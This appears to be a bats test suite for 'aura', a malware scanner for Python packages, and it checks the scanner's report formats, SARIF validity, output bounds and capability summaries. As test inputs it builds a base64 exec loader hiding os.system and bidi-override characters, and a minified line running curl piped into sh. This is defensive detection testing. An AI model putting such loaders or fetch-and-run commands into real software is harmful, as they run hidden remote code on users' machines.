#!/usr/bin/env bats
# 55-formats.bats: every output format on examples/ through the real pipeline, against golden
# files; the SARIF log against the SARIF 2.1.0 schema; source lines, payloads and redaction.
load helpers/common

GOLDEN="$AURA_ROOT/tests/golden/formats"
SCHEMA="${AURA_SARIF_SCHEMA:-$AURA_SHARED/data/sarif-schema-2.1.0.json}"

# The golden file formats/$1 (assert_golden, helpers/common.bash: AURA_UPDATE_GOLDEN=1
# rewrites it).  Paths are relative to the repository (the scans run from its root) and ids
# are content hashes, so nothing needs normalising but the database's timestamps, which the
# db test leaves out.
golden() {
	assert_golden "formats/$1"
}

setup() { cd "$AURA_ROOT"; }

@test "formats: text report of examples/ matches the golden file" {
	run -0 --separate-stderr aura scan examples/benign-cli examples/benign-greeting \
		examples/cmdclass-hook examples/install-dropper examples/obfuscated-loader
	golden examples.txt
}

@test "formats: json verdicts of examples/ match the golden file" {
	run -0 --separate-stderr aura scan --format json examples/benign-cli examples/benign-greeting \
		examples/cmdclass-hook examples/install-dropper examples/obfuscated-loader
	assert_valid_records
	golden examples.ndjson
}

@test "formats: sarif log of examples/ matches the golden file" {
	run -0 --separate-stderr aura scan --format sarif examples/benign-cli examples/benign-greeting \
		examples/cmdclass-hook examples/install-dropper examples/obfuscated-loader
	# SRCROOT is the directory the scan ran in (the checkout): named, not compared.
	output=${output//"file://$AURA_ROOT/"/"file:///AURA_ROOT/"}
	golden examples.sarif
}

@test "formats: the database rows of examples/ match the golden file" {
	local db="$BATS_TEST_TMPDIR/r.db"
	run -0 --separate-stderr aura scan --format json --db "$db" examples/benign-cli \
		examples/benign-greeting examples/cmdclass-hook examples/install-dropper \
		examples/obfuscated-loader
	# Timestamps, pids and row ids of other tables vary: only the content is compared.
	run -0 python3 - "$db" <<'PY'
import sqlite3, sys
c = sqlite3.connect(sys.argv[1])
for row in c.execute("""select p.ecosystem, p.name, v.version, a.artifact, a.path, a.kind,
        a.score, a.risk, a.complete, a.file_count, a.hit_count, a.reason
        from artifacts a left join versions v on a.version_id = v.id
        left join packages p on v.package_id = p.id order by a.path"""):
    print("artifact", *row, sep="|")
for row in c.execute("""select a.path, f.idx, f.path, f.sha256, f.size, f.kind from files f
        join artifacts a on f.artifact_id = a.id order by a.path, f.idx"""):
    print("file", *row, sep="|")
for row in c.execute("""select a.path, h.detection, h.severity, h.score, h.path, h.line, h.col,
        h.name, h.context, h.count, h.tags from hits h join artifacts a on h.artifact_id = a.id
        order by a.path, h.id"""):
    print("hit", *row, sep="|")
PY
	golden examples.db.txt
}

@test "formats: the SARIF log is valid SARIF 2.1.0 (schema), with 1-based columns and levels" {
	# The schema is shared data from outside the repository: a clean clone has none, so the
	# check says it was skipped; CI, which has it, sets AURA_REQUIRE_SHARED=1 to make that a failure.
	if [ ! -f "$SCHEMA" ]; then
		[ -z "${AURA_REQUIRE_SHARED:-}" ] || fail "no SARIF schema at $SCHEMA (AURA_REQUIRE_SHARED is set)"
		skip "no SARIF schema at $SCHEMA (set AURA_SHARED or AURA_SARIF_SCHEMA to run this check)"
	fi
	aura scan --format sarif examples/*/ examples/obfuscated-loader/loader.py > "$BATS_TEST_TMPDIR/out.sarif" || true
	tar -C examples -czf "$BATS_TEST_TMPDIR/requestz-2.31.0.tar.gz" install-dropper
	aura scan --format sarif "$BATS_TEST_TMPDIR/requestz-2.31.0.tar.gz" > "$BATS_TEST_TMPDIR/archive.sarif" || true
	for f in out archive; do
		# Debian's python3, where `make deps` installed python3-jsonschema.
		run -0 /usr/bin/python3 -c '
import json, sys, jsonschema
schema = json.load(open(sys.argv[1]))
jsonschema.validate(json.load(open(sys.argv[2])), schema)
print("valid")' "$SCHEMA" "$BATS_TEST_TMPDIR/$f.sarif"
	done
	local log
	log=$(cat "$BATS_TEST_TMPDIR/out.sarif")
	assert_jq "$log" '.version == "2.1.0" and (.runs | length) == 1'
	# every rule used is described, with help text; every result points at a line
	assert_jq "$log" '.runs[0] as $r | ($r.tool.driver.rules | map(.id)) as $ids |
		all($r.results[]; .ruleId as $id | $ids | index($id)) and
		all($r.tool.driver.rules[]; (.help.text | length) > 0)'
	assert_jq "$log" 'all(.runs[0].results[]; .level | IN("error","warning","note"))'
	# os.system at setup.py:10, byte column 0: SARIF column 1
	assert_jq "$log" 'any(.runs[0].results[]; .properties.name == "os.system" and
		.locations[0].physicalLocation.artifactLocation.uri == "examples/install-dropper/setup.py" and
		.locations[0].physicalLocation.region.startLine == 10 and
		.locations[0].physicalLocation.region.startColumn == 1 and .level == "error")'
	# a result's level follows the hit's severity in context (an info hit is a note)
	assert_jq "$log" 'all(.runs[0].results[]; .level == ({"critical":"error","high":"error","medium":"warning","low":"note","info":"note"}[.properties.severity]))'
	assert_jq "$log" 'any(.runs[0].results[]; .properties.severity == "info" and .level == "note")'
	# a member of an archive: the archive's uri with the member as fragment, and a nested
	# artifact (parentIndex: the archive, an analysis target with the package's capabilities)
	assert_jq "$(cat "$BATS_TEST_TMPDIR/archive.sarif")" '.runs[0] as $r |
		any($r.results[]; .locations[0].physicalLocation.artifactLocation as $l |
			($l.uri | test("^file:///.*/requestz-2.31.0.tar.gz#/install-dropper/setup.py$")) and
			$r.artifacts[$l.index].location.uri == $l.uri and
			($r.artifacts[$r.artifacts[$l.index].parentIndex] | (.location.uri | endswith("/requestz-2.31.0.tar.gz")) and
				(.properties.capabilities | map(.id) | index("network"))))'
}

@test "formats: an incomplete artifact shows in SARIF as a failed invocation, and exit 2" {
	run -2 --separate-stderr bash -c "aura-fetch examples/install-dropper | aura-unpack | aura-parse | aura-rewrite | aura-analyze | grep -v artifact_end | aura-score --format sarif"
	assert_jq "$output" '.runs[0].invocations[0].executionSuccessful == false and
		(.runs[0].invocations[0].toolExecutionNotifications[0].message.text | contains("interrupted: no artifact_end"))'
}

@test "formats: SARIF columns count characters, not bytes; uris are percent-encoded" {
	stream() {
		jq -nc '{type:"artifact",v:1,id:"A",path:"pkgs/my pkg",kind:"directory",name:"p"}'
		jq -nc '{type:"file",v:1,artifact:"A",id:"A:0",index:0,path:"sp ace/é.py",kind:"python",
			content:"s = \"ééé\"; eval(s)\n",content_encoding:"utf-8"}'
		jq -nc '{type:"hit",v:1,artifact:"A",file:"A:0",detection:"Eval",score:10,severity:"medium",
			path:"sp ace/é.py",line:1,col:14,message:"eval()"}'
		jq -nc '{type:"artifact_end",v:1,artifact:"A",files:1,complete:true}'
	}
	run -0 --separate-stderr bash -c "$(declare -f stream); stream | aura-score --format sarif"
	assert_jq "$output" '.runs[0].results[0].locations[0].physicalLocation |
		.artifactLocation.uri == "pkgs/my%20pkg/sp%20ace/%C3%A9.py" and .region.startColumn == 12'
}

# A 122 KB hit whose free-form fields nest 20,000 deep and carry a 100 KB string, and one
# with 10,000 small members: what every format copies of it is bounded, and "cut" says so.
amplifier() {
	python3 - <<'PY'
import json
art = {"type": "artifact", "v": 1, "id": "A", "path": "p.tar.gz", "kind": "archive", "name": "p"}
deep = "[" * 20000 + "]" * 20000
hit = ('{"type":"hit","v":1,"artifact":"A","detection":"Deep","score":10,"severity":"low",'
       '"path":"a.py","line":1,"col":0,"message":"m","tags":[],"evidence":"' + "e" * 100000 +
       '","flow":' + deep + '}')
wide = {"type": "hit", "v": 1, "artifact": "A", "detection": "Wide", "score": 10, "severity": "low",
        "path": "b.py", "line": 1, "col": 0, "message": "m",
        "payload": {"k%05d" % i: "v" * 20 for i in range(10000)}}
for r in (art, hit, wide, {"type": "artifact_end", "v": 1, "artifact": "A", "files": 0, "complete": True}):
    print(r if isinstance(r, str) else json.dumps(r))
PY
}

@test "formats: a hit's free-form fields are bounded in depth and bytes in every format, and the cut is said" {
	amplifier > "$BATS_TEST_TMPDIR/in"
	local insize
	insize=$(wc -c <"$BATS_TEST_TMPDIR/in")
	[ "$insize" -gt 122000 ] || fail "the input is $insize bytes, wanted more than 122000"
	local format size
	for format in sarif json text; do
		# head: an unbounded copy (1.5 GB of SARIF before) fails here quickly instead of filling the disk
		size=$(aura-score --format "$format" < "$BATS_TEST_TMPDIR/in" | head -c 5000000 | wc -c)
		[ "$size" -lt 400000 ] || fail "$format: $size bytes for a 122 KB input"
	done
	run -0 --separate-stderr aura-score --format json < "$BATS_TEST_TMPDIR/in"
	assert_equal "$(jq -c '[.complete, [.hits[] | [.detection, .cut]]]' <<<"$output")" \
		'[true,[["Deep",["evidence: 1 string cut at 4096 bytes (the longest had 100000)","flow: nested deeper than 8 levels"]],["Wide",["payload: 7887 values left out (the hit'"'"'s 65536-byte limit)"]]]]'
	assert_equal "$(jq -c '.hits[0] | [(.evidence | length), (.flow | tostring)]' <<<"$output")" '[4096,"[[[[[[[[]]]]]]]]"]'
	assert_equal "$(jq -c '.hits[1].payload | length' <<<"$output")" 2113
	run -0 --separate-stderr aura-score --format sarif < "$BATS_TEST_TMPDIR/in"
	assert_jq "$output" '.runs[0].results[0].properties | (.evidence | length == 4096) and .cut[1] == "flow: nested deeper than 8 levels"'
	run -0 --separate-stderr aura-score < "$BATS_TEST_TMPDIR/in"
	assert_output --partial "      cut: flow: nested deeper than 8 levels"
}

@test "formats: --merge bounds and range-checks the verdicts it reads back" {
	amplifier > "$BATS_TEST_TMPDIR/in"
	# A verdict written by hand, as from an old or tampered run: unbounded, with a bad column.
	python3 - "$BATS_TEST_TMPDIR/verdicts" <<'PY'
import json, sys
def verdict(aid, col):
    hit = {"type": "hit", "v": 1, "artifact": aid, "detection": "X", "score": 10, "severity": "low",
           "path": "a.py", "line": 1, "col": col, "message": "m", "count": 1, "flow": "FLOW"}
    v = {"type": "verdict", "v": 1, "artifact": {"id": aid, "name": "p"}, "score": 10, "risk": "info",
         "reason": "m", "complete": True, "incomplete_reasons": [], "errors": [], "files": 0,
         "hits": [hit], "hits_hidden": 0}
    return json.dumps(v).replace('"FLOW"', "[" * 5000 + "]" * 5000)
with open(sys.argv[1], "w") as f:
    f.write(verdict("A", 0) + "\n" + verdict("B", 2**63 - 1) + "\n")
PY
	run -2 --separate-stderr aura-score --merge --format sarif < "$BATS_TEST_TMPDIR/verdicts"
	assert_jq "$output" '.runs[0].results | length == 1 and (.[0].properties | tostring | length < 300)'
	[[ $stderr == *"<stdin>:2: malformed verdict record: verdict hit 0: hit field 'col' holds 9223372036854775807: it must be an integer in 0..2147483647"* ]] || fail "$stderr"
}

@test "formats: an artifact's strings are cut too: SARIF repeats the package name in every result" {
	python3 - > "$BATS_TEST_TMPDIR/in" <<'PY'
import json
print(json.dumps({"type": "artifact", "v": 1, "id": "A", "kind": "archive", "name": "n" * 200000}))
for i in range(300):
    print(json.dumps({"type": "hit", "v": 1, "artifact": "A", "detection": f"D{i}", "score": 1,
                      "severity": "low", "path": "a.py", "line": 1, "col": 0, "message": "m"}))
print(json.dumps({"type": "artifact_end", "v": 1, "artifact": "A", "files": 0, "complete": True}))
PY
	local size
	size=$(aura-score --format sarif < "$BATS_TEST_TMPDIR/in" | head -c 20000000 | wc -c)
	[ "$size" -lt 3000000 ] || fail "$size bytes of SARIF"
	run -0 --separate-stderr aura-score --format sarif < "$BATS_TEST_TMPDIR/in"
	assert_jq "$output" '.runs[0].results | length == 300 and (.[0].properties.package | length == 4096)'
}

# ---- reports people act on (issue 15) and capabilities, explain (issue 11) ----

@test "formats: the decoded payload is shown in text, json and sarif: bounded, control characters visible" {
	mkdir -p "$BATS_TEST_TMPDIR/p"
	# The decoded code clears the screen, hides text behind a bidi override, and is long.
	python3 - "$BATS_TEST_TMPDIR/p/loader.py" <<'PY'
import base64, sys
code = "import os\nos.system('id')  # \x1b[2J\u202e hidden\n" + "x = 1\n" * 400
open(sys.argv[1], "w").write("import base64\nexec(base64.b64decode(%r))\n" % base64.b64encode(code.encode()).decode())
PY
	run -0 --separate-stderr aura scan "$BATS_TEST_TMPDIR/p"
	assert_output --partial "      decoded: import os\\nos.system('id')  # \\x1b[2J\\u202e hidden\\nx = 1\\n"
	refute_output --partial $'\e[2J'
	local line
	line=$(grep -m1 'decoded: ' <<<"$output")
	# cut at 300 bytes of the payload, the cut said
	[ "${#line}" -lt 400 ] && [[ $line == *... ]] || fail "not bounded: $line"
	run -0 --separate-stderr aura scan --format json "$BATS_TEST_TMPDIR/p"
	assert_jq "$output" 'any(.hits[]; .detection == "CodeExecution" and (.payload | startswith("import os\nos.system(\u0027id\u0027)  # \u001b[2J\u202e hidden\n")) and (.payload | endswith("x = 1\n")) and (.payload | length) > 2400)'
	run -0 --separate-stderr aura scan --format sarif "$BATS_TEST_TMPDIR/p"
	assert_jq "$output" 'any(.runs[0].results[]; .ruleId == "CodeExecution" and
		(.message.text | contains("\ndecoded: import os\\nos.system(\u0027id\u0027)  # \\x1b[2J\\u202e hidden")) and
		(.message.text | test("\u001b|\u202e") | not) and (.properties.payload | length) > 2400)'
}

@test "formats: a hit far to the right on a long line is quoted in a window around its column, cuts marked" {
	mkdir -p "$BATS_TEST_TMPDIR/m"
	# minified: 3,000 bytes of harmless code (with multi-byte characters), then the call
	python3 - "$BATS_TEST_TMPDIR/m/m.py" <<'PY'
import sys
open(sys.argv[1], "w").write("a='é';" * 500 + "__import__('os').system('curl x|sh');" + "b=2;" * 500 + "\n")
PY
	run -0 --separate-stderr aura scan --format json "$BATS_TEST_TMPDIR/m"
	local v
	v=$(jq -c '.hits[] | select(.name == "os.system")' <<<"$output")
	assert_jq "$v" '.col == 3500 and (.source | startswith("…") and endswith("…") and contains("system(\u0027curl x|sh\u0027)")) and
		(.source | length) < 1010 and .source_window.from > 0 and .source_window.line_bytes == 5537'
	run -0 --separate-stderr aura scan "$BATS_TEST_TMPDIR/m"
	line=$(grep -m1 '^      1 | ' <<<"$output")
	[[ $line == "      1 | …"*"__import__('os').system('curl x|sh')"*"…" ]] || fail "$line"
	[ "${#line}" -lt 340 ] || fail "not a window: ${#line}"
	# SARIF: the column counts the characters the window left out too (é is 2 bytes, 1 character)
	run -0 --separate-stderr aura scan --format sarif "$BATS_TEST_TMPDIR/m"
	assert_jq "$output" 'any(.runs[0].results[]; .properties.name == "os.system" and
		.locations[0].physicalLocation.region.startColumn == 3001 and
		(.locations[0].physicalLocation.region.snippet.text | startswith("…")))'
}

@test "formats: reasons cut messages at a word boundary, never inside a word" {
	stream() {
		jq -nc '{type:"artifact",v:1,id:"A",name:"p",kind:"archive"}'
		jq -nc '{type:"hit",v:1,artifact:"A",detection:"D",score:10,severity:"low",path:"a.py",line:1,col:0,
			message:("a download is executed or made executable: urllib.request.urlretrieve() (line 12) flows into os.chmod() from the hard-coded host 192.0.2.44")}'
		jq -nc '{type:"artifact_end",v:1,artifact:"A",files:0,complete:true}'
	}
	run -0 --separate-stderr bash -c "$(declare -f stream); stream | aura-score --format json"
	assert_jq "$output" '.reason == "a download is executed or made executable: urllib.request.urlretrieve() (line 12) flows into os.chmod() from the… in a.py"'
}

@test "formats: --srcroot: uris relative to it under SRCROOT, absolute file: URIs outside it" {
	cp -r examples/install-dropper "$BATS_TEST_TMPDIR/outside"
	run -0 --separate-stderr aura-score --format sarif --srcroot examples < <(aura-fetch examples/cmdclass-hook "$BATS_TEST_TMPDIR/outside" | aura-unpack | aura-parse | aura-rewrite | aura-analyze)
	assert_jq "$output" ".runs[0].originalUriBaseIds.SRCROOT.uri == \"file://$AURA_ROOT/examples/\""
	assert_jq "$output" 'any(.runs[0].results[]; .locations[0].physicalLocation.artifactLocation == {"uriBaseId":"SRCROOT","uri":"cmdclass-hook/setup.py"})'
	assert_jq "$output" "any(.runs[0].results[]; .locations[0].physicalLocation.artifactLocation == {\"uri\":\"file://$BATS_TEST_TMPDIR/outside/setup.py\"})"
	run -2 --separate-stderr aura-score --format sarif --srcroot "$BATS_TEST_TMPDIR/none" </dev/null
	[[ $stderr == *"--srcroot: '$BATS_TEST_TMPDIR/none' is not a directory"* ]] || fail "$stderr"
}

@test "formats: capabilities per package in every format, each with where it happens" {
	run -0 --separate-stderr aura scan --format json examples/cmdclass-hook examples/benign-greeting
	assert_jq "$(verdict_of cmdclass-hook)" '[.capabilities[].id] == ["network","process","file-write","install-hook"]'
	assert_jq "$(verdict_of cmdclass-hook)" '.capabilities[0].where[0] == {"path":"setup.py","line":13,"detection":"Dropper"} and .capabilities[3].hits == 5'
	assert_jq "$(verdict_of benign-greeting)" '.capabilities == []'
	run -0 --separate-stderr aura scan examples/cmdclass-hook
	assert_line "  can: file-write (writes or changes files outside the package): setup.py:13, setup.py:12"
	run -0 --separate-stderr aura scan --format sarif examples/cmdclass-hook
	assert_jq "$output" '.runs[0].artifacts[0].properties.capabilities | map(.id) == ["network","process","file-write","install-hook"]'
	assert_jq "$output" 'all(.runs[0].results[]; .properties.packageCapabilities == ["network","process","file-write","install-hook"])'
}

@test "formats: the capability mapping is data (--capabilities FILE); a bad file is a fatal error" {
	cat > "$BATS_TEST_TMPDIR/caps.yaml" <<'YAML'
version: 1
capabilities:
  - id: chmod
    title: changes file modes
    names: [os.chmod]
YAML
	run -0 --separate-stderr bash -c "aura-fetch examples/cmdclass-hook | aura-unpack | aura-parse | aura-rewrite | aura-analyze | aura-score --format json --capabilities '$BATS_TEST_TMPDIR/caps.yaml'"
	assert_jq "$output" '.capabilities == [{"id":"chmod","title":"changes file modes","hits":1,"where":[{"path":"setup.py","line":13,"detection":"Dropper"}]}]'
	printf 'version: 1\ncapabilities:\n  - id: x\n    title: t\n    nmes: [a]\n' > "$BATS_TEST_TMPDIR/bad.yaml"
	run -2 --separate-stderr aura-score --capabilities "$BATS_TEST_TMPDIR/bad.yaml" </dev/null
	[[ $stderr == *"bad.yaml:5: unknown key 'nmes' in a capability"* ]] || fail "$stderr"
	run -2 --separate-stderr aura-score --capabilities "$BATS_TEST_TMPDIR/missing.yaml" </dev/null
	[[ $stderr == *"cannot open capabilities file"* ]] || fail "$stderr"
}

@test "formats: merge carries capabilities and checks them" {
	aura scan --format json examples/cmdclass-hook > "$BATS_TEST_TMPDIR/v.ndjson" || true
	run -0 --separate-stderr aura-score --merge --format json < "$BATS_TEST_TMPDIR/v.ndjson"
	assert_jq "$output" '[.capabilities[].id] == ["network","process","file-write","install-hook"]'
	jq -c '.capabilities[0].where = "x"' "$BATS_TEST_TMPDIR/v.ndjson" > "$BATS_TEST_TMPDIR/bad.ndjson"
	run -2 --separate-stderr aura-score --merge --format json < "$BATS_TEST_TMPDIR/bad.ndjson"
	[[ $stderr == *"verdict field 'capabilities' is not a list of {id, title, hits, where}"* ]] || fail "$stderr"
}

@test "formats: aura explain of examples/ matches the golden file; its terms add up to each score" {
	run -0 --separate-stderr aura explain examples/obfuscated-loader
	assert_line "  how the score adds up: 195"
	assert_line "     +100  a flow or signature (at most 3 x the biggest of its detection): ObfuscatedCodeExecution 100"
	assert_line "      +95  the most suspicious file, loader.py: CodeExecution 80 from 2 hits; EncodedData 5; CodeCompilation 10"
	assert_line "      chain: base64.b64decode() (line 5) → builtins.exec"
	local out=""
	for e in benign-cli cmdclass-hook install-dropper obfuscated-loader; do
		run -0 --separate-stderr aura explain "examples/$e"
		out+="$output"$'\n'
	done
	output=${out%$'\n'}
	golden examples.explain.txt
	# json: the terms, whatever --min-level hides, sum to the score
	for e in benign-cli cmdclass-hook install-dropper obfuscated-loader; do
		run -0 --separate-stderr aura explain --format json --min-level high "examples/$e"
		assert_jq "$output" '.explain.total == .score and
			.score == .explain.install.value + ([.explain.strong[].value] | add // 0) +
				([.explain.files[] | select(.in_full) | .value] | add // 0) + .explain.spread.value'
	done
	run -2 aura explain examples/benign-cli examples/cmdclass-hook
	run -2 aura-score --explain --format sarif </dev/null
	run -2 aura-score --explain --diff </dev/null
}
